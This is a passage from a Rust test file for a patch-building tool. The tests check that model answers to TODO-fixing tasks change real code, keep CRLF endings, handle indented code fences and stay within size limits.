            make_patch(&t, inside),
            Err(Rejection::PastedContext { line: 3, .. })
        ),
        "{:?}",
        make_patch(&t, inside)
    );
    // The same rewrite alone passes; a new import the file lacks is no paste.
    let alone = "```go\nfunc greet(name string) string {\n\tif name == \"\" {\n\t\tname = \"world\"\n\t}\n\treturn fmt.Sprintf(\"hello %s\", name)\n}\n```";
    assert!(make_patch(&t, alone).is_ok());
    let py = "import os\n\ndef f(x):\n    # TODO: log x\n    return x\n";
    let mut p = spec(py, "def f(x):\n    # TODO: log x\n    return x\n", "log x");
    p.language = "python".into();
    p.path = "m.py".into();
    let new_import =
        "```python\ndef f(x):\n    import logging\n    logging.info(x)\n    return x\n```";
    assert!(make_patch(&p.target(py).unwrap(), new_import).is_ok());
}

#[test]
fn a_reworded_todo_is_no_change_but_its_words_may_stay_as_a_plain_comment() {
    let s = spec(FILE, BLOCK, "handle overflow of the sum");
    let file = FILE.replace("handle overflow", "handle overflow of the sum");
    let block = BLOCK.replace("handle overflow", "handle overflow of the sum");
    let s = crate::task::test_spec(&file, &block, &s.text);
    let t = s.target(&file).unwrap();
    // The TODO reworded into a note: still no code changed.
    assert_eq!(
        make_patch(
            &t,
            "```rust\nfn add(a: i32, b: i32) -> i32 {\n    // Overflow is handled by the caller.\n    a + b\n}\n```"
        ),
        Err(Rejection::OnlyComments { tag: "TODO".into() })
    );
    // The code done, the TODO's words kept as a plain comment: accepted (the next scan finds
    // nothing), where the old text check rejected it.
    assert!(
        make_patch(
            &t,
            "```rust\nfn add(a: i32, b: i32) -> i32 {\n    // handle overflow of the sum\n    a.saturating_add(b)\n}\n```"
        )
        .is_ok()
    );
    // Re-tagged, in any case the scanner reads as a tag: still there.
    for retag in [
        "// FIXME: handle overflow of the sum",
        "// todo: Handle overflow of the sum",
    ] {
        let answer = format!(
            "```rust\nfn add(a: i32, b: i32) -> i32 {{\n    {retag}\n    a.saturating_add(b)\n}}\n```"
        );
        assert_eq!(
            make_patch(&t, &answer),
            Err(Rejection::TodoStillPresent { tag: "TODO".into() }),
            "{retag}"
        );
    }
}

/// Issue 12, item 10: a CRLF file whose block is its last lines, without a final newline,
/// gets a CRLF block (no LF-only lines in a CRLF file after apply).
#[test]
fn a_crlf_block_at_the_end_of_a_file_without_final_newline_keeps_crlf() {
    let content = "fn a() {}\r\n\r\nfn add(a: i32, b: i32) -> i32 {\r\n    // TODO: handle overflow\r\n    a + b\r\n}";
    let block = "fn add(a: i32, b: i32) -> i32 {\r\n    // TODO: handle overflow\r\n    a + b\r\n}";
    let s = spec(content, block, "handle overflow");
    let answer = "```rust\nfn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n```";
    let p = make_patch(&s.target(content).unwrap(), answer).unwrap();
    assert_eq!(
        p.new_block,
        "fn add(a: i32, b: i32) -> i32 {\r\n    a.saturating_add(b)\r\n}"
    );
    let applied = apply_unified(content, &p.diff).unwrap();
    assert_eq!(
        applied,
        "fn a() {}\r\n\r\nfn add(a: i32, b: i32) -> i32 {\r\n    a.saturating_add(b)\r\n}"
    );
    // A one-line block on the last line says nothing of its own: the file's ending decides.
    assert_eq!(
        conform("    a + b", "a.saturating_add(b)\nb", "x\r\n    a + b"),
        "    a.saturating_add(b)\r\n    b"
    );
    assert_eq!(conform("a\nb", "c\nd\n", "x\na\nb"), "c\nd");
}

/// Issue 12, item 10: a code fence indented by N spaces (a fence in a list item) does not
/// shift the code by N: up to the fence's indentation is removed from each line, as
/// CommonMark says.
#[test]
fn an_indented_fence_does_not_shift_the_code() {
    let answer = "1. Use saturating arithmetic:\n\n   ```rust\n   fn add(a: i32, b: i32) -> i32 {\n       a.saturating_add(b)\n   }\n   ```\n";
    assert_eq!(
        extract_code_block(answer).unwrap(),
        "fn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}"
    );
    let s = spec(FILE, BLOCK, "handle overflow");
    let p = make_patch(&s.target(FILE).unwrap(), answer).unwrap();
    assert_eq!(
        p.new_block,
        "fn add(a: i32, b: i32) -> i32 {\n    a.saturating_add(b)\n}\n"
    );
    // A line indented less than the fence loses only what it has.
    assert_eq!(
        extract_code_block("  ```\n  a\n b\n    c\n  ```").unwrap(),
        "a\nb\n  c"
    );
}

/// Issue 12, item 8: an answer far longer than any TODO's change (a server that ignores the
/// token limit, a model that loops) is rejected by size, so a passed answer stores a bounded
/// diff; and what is stored of any raw answer is bounded too.
#[test]
fn a_huge_rewrite_is_rejected_and_a_long_answer_is_stored_clipped() {
    let s = spec(FILE, BLOCK, "handle overflow");
    let body: String = (0..20_000)
        .map(|i| format!("    let _x{i} = a.saturating_add(b);\n"))
        .collect();
    let answer = format!("```rust\nfn add(a: i32, b: i32) -> i32 {{\n{body}    a + b\n}}\n```\n");
    match make_patch(&s.target(FILE).unwrap(), &answer) {
        Err(Rejection::TooLong { bytes, limit }) => {
            assert!(
                bytes > limit && limit == MAX_REWRITE_BYTES,
                "{bytes} {limit}"
            )
        }
        other => panic!("expected TooLong, got {other:?}"),
    }
    let stored = stored_answer(&answer);
    assert!(
        stored.len() < MAX_STORED_ANSWER_BYTES + 100,
        "{}",
        stored.len()
    );
    assert!(stored.starts_with("```rust\nfn add("));
    assert!(
        stored.ends_with(&format!("of {} bytes are not stored]", answer.len())),
        "{}",
        &stored[stored.len() - 80..]
    );
    // A multi-byte character at the cut is not split; a short answer is stored whole.
    let wide = "é".repeat(MAX_STORED_ANSWER_BYTES);
    assert!(stored_answer(&wide).starts_with("éé"));
    assert_eq!(stored_answer("short"), "short");
}
